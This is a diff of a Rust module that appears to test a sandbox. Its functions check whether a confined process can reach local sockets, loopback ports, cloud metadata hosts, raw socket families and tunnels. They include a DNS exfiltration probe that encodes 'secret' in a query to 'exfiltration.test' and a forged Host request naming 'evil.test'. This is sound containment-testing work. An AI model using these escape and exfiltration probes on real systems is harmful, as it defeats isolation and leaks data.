@@ -8,38 +8,39 @@ use std::os::unix::net::{SocketAddr as UnixAddr, UnixStream};
 use std::process::Command;
 use std::time::Duration;
 
-use crate::attack::{Bait, Probe};
+use crate::attack::{AttackArguments, Probe};
 use crate::raw::{call, in_child, sleeping_child};
 
 /// The timeout for an answer. A service on this machine answers at once unless the machine is too busy; a refusal comes
 /// at once.
-const PATIENCE: Duration = Duration::from_secs(5);
+const IO_TIMEOUT: Duration = Duration::from_secs(5);
 
-pub(crate) fn unix(bait: &Bait<'_>) -> Vec<Probe> {
+pub(crate) fn unix(arguments: &AttackArguments<'_>) -> Vec<Probe> {
     let probe = |path: &str| {
-        let place = if path.starts_with(bait.text("out")) { "in a folder that it may write" } else { "elsewhere" };
-        Probe::of(format!("a socket {place}"), UnixStream::connect(path).and_then(|stream| heard(bait, stream)))
+        let place = if path.starts_with(arguments.text("out")) { "in a folder that it may write" } else { "elsewhere" };
+        Probe::of(format!("a socket {place}"), UnixStream::connect(path).and_then(|stream| heard(arguments, stream)))
     };
-    bait.texts("sockets").map(probe).collect()
+    arguments.texts("sockets").map(probe).collect()
 }
 
-pub(crate) fn abstract_unix(bait: &Bait<'_>) -> Vec<Probe> {
-    let stream = UnixAddr::from_abstract_name(bait.text("abstract")).and_then(|name| UnixStream::connect_addr(&name));
-    vec![Probe::of("an abstract socket", stream.and_then(|stream| heard(bait, stream)))]
+pub(crate) fn abstract_unix(arguments: &AttackArguments<'_>) -> Vec<Probe> {
+    let stream =
+        UnixAddr::from_abstract_name(arguments.text("abstract")).and_then(|name| UnixStream::connect_addr(&name));
+    vec![Probe::of("an abstract socket", stream.and_then(|stream| heard(arguments, stream)))]
 }
 
-pub(crate) fn loopback(bait: &Bait<'_>) -> Vec<Probe> {
-    let port = bait.number("port");
+pub(crate) fn loopback(arguments: &AttackArguments<'_>) -> Vec<Probe> {
+    let port = arguments.number("port");
     let probe = |host: &str| {
         let stream = connect(&format!("{host}:{port}"));
-        Probe::of(format!("{host} of the machine"), stream.and_then(|stream| heard(bait, stream)))
+        Probe::of(format!("{host} of the machine"), stream.and_then(|stream| heard(arguments, stream)))
     };
     let hosts = ["127.0.0.1", "localhost", "0.0.0.0", "[::ffff:127.0.0.1]"];
-    hosts.into_iter().chain(bait.texts("addresses")).map(probe).collect()
+    hosts.into_iter().chain(arguments.texts("addresses")).map(probe).collect()
 }
 
-pub(crate) fn metadata(bait: &Bait<'_>) -> Vec<Probe> {
-    if !bait.caged() && bait.number("service") == 0 {
+pub(crate) fn metadata(arguments: &AttackArguments<'_>) -> Vec<Probe> {
+    if !arguments.caged() && arguments.number("service") == 0 {
         return Vec::new();
     }
     let hosts = [
@@ -53,10 +54,10 @@ pub(crate) fn metadata(bait: &Bait<'_>) -> Vec<Probe> {
     hosts.into_iter().map(|host| Probe::of(host, connect(host).and_then(|stream| answered(stream, get)))).collect()
 }
 
-pub(crate) fn dns(bait: &Bait<'_>) -> Vec<Probe> {
+pub(crate) fn dns(arguments: &AttackArguments<'_>) -> Vec<Probe> {
     let name = "c2VjcmV0.exfiltration.test";
-    let mut probes = vec![Probe::of("a resolver of the machine", ask(bait.text("udp"), name))];
-    if bait.caged() {
+    let mut probes = vec![Probe::of("a resolver of the machine", ask(arguments.text("udp"), name))];
+    if arguments.caged() {
         let resolved =
             (name, 443).to_socket_addrs().and_then(|mut found| found.next().ok_or(io::ErrorKind::NotFound.into()));
         probes.push(Probe::of("the library's resolver", resolved));
@@ -71,7 +72,7 @@ pub(crate) fn dns(bait: &Bait<'_>) -> Vec<Probe> {
 fn ask(server: &str, name: &str) -> io::Result<()> {
     let server: SocketAddr = server.parse().map_err(io::Error::other)?;
     let socket = UdpSocket::bind(if server.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" })?;
-    socket.set_read_timeout(Some(PATIENCE))?;
+    socket.set_read_timeout(Some(IO_TIMEOUT))?;
     let labels = name.split('.').flat_map(|label| [&[label.len().to_le_bytes()[0]], label.as_bytes()].concat());
     let mut question = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
     question.extend(labels.chain([0, 0, 1, 0, 1]));
@@ -84,16 +85,16 @@ fn ask(server: &str, name: &str) -> io::Result<()> {
     }
 }
 
-pub(crate) fn forge(bait: &Bait<'_>) -> Vec<Probe> {
-    let (plain, secure) = (bait.text("forge"), bait.text("forge_tls"));
+pub(crate) fn forge(arguments: &AttackArguments<'_>) -> Vec<Probe> {
+    let (plain, secure) = (arguments.text("forge"), arguments.text("forge_tls"));
     let get = |target: &str, host: &str| format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
     let web =
         |what: &str, to: &str, request: &str| Probe::of(what, connect(to).and_then(|stream| answered(stream, request)));
     let mut probes = vec![web("another `Host`", plain, &get("/", "evil.test"))];
-    if !bait.caged() {
+    if !arguments.caged() {
         return probes;
     }
-    if bait.connected() {
+    if arguments.connected() {
         let resolved = plain.to_socket_addrs().map(Iterator::collect::<Vec<_>>);
         probes.push(Probe::new("NOT the name that is declared", resolved.is_err(), format!("{resolved:?}")));
     }
@@ -120,7 +121,7 @@ pub(crate) fn forge(bait: &Bait<'_>) -> Vec<Probe> {
 
 /// Succeeds if a server answers the request with anything but a refusal.
 fn answered(mut stream: TcpStream, request: &str) -> io::Result<()> {
-    stream.set_read_timeout(Some(PATIENCE))?;
+    stream.set_read_timeout(Some(IO_TIMEOUT))?;
     stream.write_all(request.as_bytes())?;
     let mut answer = [0; 64];
     let size = stream.read(&mut answer)?;
@@ -148,15 +149,15 @@ fn shake_hands(mut stream: TcpStream, name: &str) -> io::Result<()> {
     body.extend(extensions);
     let hello = [&[22, 3, 1][..], &short(body.len() + 4), &[1, 0], &short(body.len()), &body].concat();
     debug_assert_eq!(byte(hello.len() - 9), byte(body.len()));
-    stream.set_read_timeout(Some(PATIENCE))?;
+    stream.set_read_timeout(Some(IO_TIMEOUT))?;
     stream.write_all(&hello)?;
     let mut first = [0];
     stream.read_exact(&mut first)?;
     if first == [22] { Ok(()) } else { Err(io::Error::other("refused by an alert")) }
 }
 
-pub(crate) fn families(bait: &Bait<'_>) -> Vec<Probe> {
-    let mut probes = vec![Probe::of("a datagram to the machine's loopback", ask(bait.text("udp"), "x"))];
+pub(crate) fn families(arguments: &AttackArguments<'_>) -> Vec<Probe> {
+    let mut probes = vec![Probe::of("a datagram to the machine's loopback", ask(arguments.text("udp"), "x"))];
     let stream = libc::SOCK_STREAM;
     for (what, family, kind, protocol) in [
         ("raw IP", libc::AF_INET, libc::SOCK_RAW, 1),
@@ -186,7 +187,7 @@ pub(crate) fn families(bait: &Bait<'_>) -> Vec<Probe> {
 
 /// Creates Unix sockets of every kind that a number could name: single ones, and pairs of which one end could be
 /// connected again.
-pub(crate) fn unix_kinds(bait: &Bait<'_>) -> Vec<Probe> {
+pub(crate) fn unix_kinds(arguments: &AttackArguments<'_>) -> Vec<Probe> {
     let pair = |kind: i32| {
         let mut ends = [-1_i32; 2];
         call(libc::SYS_socketpair, [libc::AF_UNIX.into(), kind.into(), 0_i32.into(), (&mut ends).into()])?;
@@ -205,15 +206,15 @@ pub(crate) fn unix_kinds(bait: &Bait<'_>) -> Vec<Probe> {
         Probe::new("single ones", !singles.is_empty(), format!("{singles:?}")),
         Probe::new("pairs of datagrams", !others.is_empty(), format!("{others:?}")),
     ];
-    if bait.caged() {
+    if arguments.caged() {
         probes.push(Probe::new("NOT pairs of streams and of packets", usual.len() != 6, format!("{usual:?}")));
     }
     probes
 }
 
 /// Opens a tunnel and keeps it open after the call, and in a child after its own end.
-pub(crate) fn tunnel(bait: &Bait<'_>) -> Vec<Probe> {
-    let opened = connect(bait.text("tunnel")).and_then(|mut stream| {
+pub(crate) fn tunnel(arguments: &AttackArguments<'_>) -> Vec<Probe> {
+    let opened = connect(arguments.text("tunnel")).and_then(|mut stream| {
         stream.write_all(b"hello from the cell\n")?;
         stream.read_exact(&mut [0])?;
         std::mem::forget(stream);
@@ -223,12 +224,12 @@ pub(crate) fn tunnel(bait: &Bait<'_>) -> Vec<Probe> {
 }
 
 /// Makes many connections, each in a process that sends one byte and ends before it can be looked at.
-pub(crate) fn race(bait: &Bait<'_>) -> Vec<Probe> {
+pub(crate) fn race(arguments: &AttackArguments<'_>) -> Vec<Probe> {
     let say = || {
-        connect(bait.text("tunnel"))?.write_all(b"x")?;
+        connect(arguments.text("tunnel"))?.write_all(b"x")?;
         Ok(0)
     };
-    let said = (0..bait.number("race")).filter(|_| in_child(say).is_ok()).count();
+    let said = (0..arguments.number("race")).filter(|_| in_child(say).is_ok()).count();
     vec![Probe::new("connections", false, format!("{said} made"))]
 }
 
@@ -260,12 +261,12 @@ pub(crate) fn answer() -> ! {
 
 fn connect(to: &str) -> io::Result<TcpStream> {
     let address = to.to_socket_addrs()?.next().ok_or(io::ErrorKind::NotFound)?;
-    TcpStream::connect_timeout(&address, PATIENCE)
+    TcpStream::connect_timeout(&address, IO_TIMEOUT)
 }
 
 /// Reads from a stream. Succeeds if it has the canary.
-fn heard(bait: &Bait<'_>, stream: impl Read) -> io::Result<()> {
+fn heard(arguments: &AttackArguments<'_>, stream: impl Read) -> io::Result<()> {
     let mut bytes = Vec::new();
     stream.take(256).read_to_end(&mut bytes)?;
-    if bait.is_in(&bytes) { Ok(()) } else { Err(io::Error::other("somebody else answers")) }
+    if arguments.is_in(&bytes) { Ok(()) } else { Err(io::Error::other("somebody else answers")) }
 }
